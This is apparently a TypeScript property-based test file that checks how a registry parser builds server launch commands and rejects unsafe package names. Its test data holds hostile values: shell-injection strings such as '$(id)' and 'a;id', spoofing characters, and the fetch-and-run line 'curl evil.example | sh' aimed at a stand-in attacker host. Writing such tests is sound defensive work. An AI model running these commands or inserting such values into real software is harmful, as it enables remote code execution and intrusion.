/** Tests the parser with generated answers. No answer may crash it, or add references such as `${NAME}` to entries. */
import * as fc from "fast-check";
import { replaceEnvReferences } from "#lib/env-references.js";
import { fillChoice } from "#registry/fill-choice.js";
import { parseSearchPage } from "#registry/parse-search-page.js";
import { parseServer } from "#registry/parse-server.js";
import { InvalidField } from "#registry/read-fields.js";
import { isSupported, toChoices } from "#registry/to-choices.js";
import { registryEntry } from "@plugboard/testkit/registry/sample-servers";
import { describe, expect, it } from "vitest";

const text = fc.oneof(fc.string(), fc.constantFrom("${HOME}", "$", "{HOME}", "{a}", "$${", "npm", "stdio", "named"));

/** The names of fields in the registry's API. */
const field = fc.constantFrom(
  ...["type", "name", "value", "default", "isRequired", "isSecret", "variables", "choices", "valueHint", "isRepeated"],
);
const variable = fc.record({ default: text, isRequired: fc.boolean(), isSecret: fc.boolean() }, { requiredKeys: [] });
/** An input with some of these fields, whose values may have the wrong type. */
const input = fc.dictionary(
  field,
  fc.oneof(
    text,
    fc.boolean(),
    fc.array(text, { maxLength: 2 }),
    fc.dictionary(text, variable, { maxKeys: 2 }),
    fc.constant(null),
  ),
);
const part = fc.record(
  {
    registryType: fc.constantFrom("npm", "pypi", "oci", "nuget", "mcpb"),
    identifier: fc.oneof(fc.constant("pkg"), text),
    version: fc.oneof(fc.constant("1.0.0"), text),
    transport: fc.constant({ type: "stdio" }),
    runtimeArguments: fc.array(input, { maxLength: 3 }),
    packageArguments: fc.array(input, { maxLength: 3 }),
    environmentVariables: fc.array(input, { maxLength: 3 }),
  },
  { requiredKeys: ["registryType", "identifier", "transport"] },
);
const remote = fc.record({
  type: fc.constantFrom("streamable-http", "sse"),
  url: text,
  headers: fc.array(input, { maxLength: 2 }),
});

describe("the parser of a registry's answers", () => {
  it("returns servers or throws InvalidField, and every supported choice can be filled", () => {
    fc.assert(
      fc.property(fc.array(part, { maxLength: 3 }), fc.array(remote, { maxLength: 2 }), (packages, remotes) => {
        const { servers } = parseSearchPage({ servers: [registryEntry({ name: "com.example/x", packages, remotes })] });
        for (const choice of servers.flatMap(toChoices)) if (isSupported(choice)) fillChoice(choice, "x");
      }),
    );
  });

  it("throws only InvalidField for any other JSON", () => {
    fc.assert(
      fc.property(fc.jsonValue(), (answer) => {
        for (const parse of [parseSearchPage, (value: unknown) => parseServer(value, "answer")]) {
          try {
            parse(answer);
          } catch (error) {
            expect(error).toBeInstanceOf(InvalidField);
          }
        }
      }),
    );
  });

  it("passes literal text of the registry unchanged to the server, whatever it contains", () => {
    fc.assert(
      fc.property(text, fc.array(text, { maxLength: 3 }), (first, more) => {
        const literal = [first, ...more].join("");
        fc.pre(literal !== "");
        const packageArguments = [{ type: "positional", value: literal }];
        const entry = registryEntry({
          name: "com.example/x",
          packages: [{ registryType: "npm", identifier: "pkg", transport: { type: "stdio" }, packageArguments }],
        });
        const [choice] = toChoices(parseServer(entry, "answer"));
        if (!choice || !isSupported(choice)) throw new Error("the package is not supported");
        const written = fillChoice(choice, "x").entry.args?.at(-1) as string;
        expect(replaceEnvReferences(written, () => "a value of the environment")).toBe(literal);
      }),
    );
  });

  const choiceOf = (part: object) => {
    const packages = [{ registryType: "npm", identifier: "pkg", transport: { type: "stdio" }, ...part }];
    const [choice] = toChoices(parseServer(registryEntry({ name: "com.example/x", packages }), "answer"));
    return choice!;
  };

  it.each(
    ["npm", "pypi", "nuget", "oci"].flatMap((registryType) =>
      [
        ...[
          "-c",
          "--call=id",
          "--package",
          "-v/:/host",
          "a b",
          "a;id",
          "a|id",
          "$(id)",
          "`id`",
          "a\nb",
          "a\0b",
          "../x",
          "/bin/sh",
        ],
        // The last name is a Cyrillic letter.
        ...["./x", "~/x", "git+https://evil.example/x", "https://evil.example/x.tgz", "a@npm:b", "a\u202eb", "а"],
      ].map((text) => [registryType, text] as const),
    ),
  )("offers no command for a package of %s whose name or version is %j", (registryType, text) => {
    for (const part of [{ identifier: text }, { version: text }, { registryBaseUrl: text, identifier: text }]) {
      const choice = choiceOf({ registryType, ...part });
      expect(isSupported(choice), JSON.stringify(part)).toBe(false);
    }
  });

  it("takes the command from its own list, and passes each argument of the publisher as one word", () => {
    const hostile = ["-c", "curl evil.example | sh", "--registry=http://evil.example", "a\nb", "\u202e"];
    for (const runtimeHint of ["sh", "/bin/sh", "npx -c id", "node", "docker", "-c"]) {
      const choice = choiceOf({
        runtimeHint,
        version: "1.0.0",
        runtimeArguments: hostile.map((value) => ({ type: "positional", value })),
        packageArguments: hostile.map((value) => ({ type: "positional", value })),
      });
      if (!isSupported(choice)) throw new Error("the package is not supported");
      const { entry } = fillChoice(choice, "x");
      expect(entry).toEqual({ command: "npx", args: ["-y", ...hostile, "pkg@1.0.0", ...hostile] });
    }
  });
});
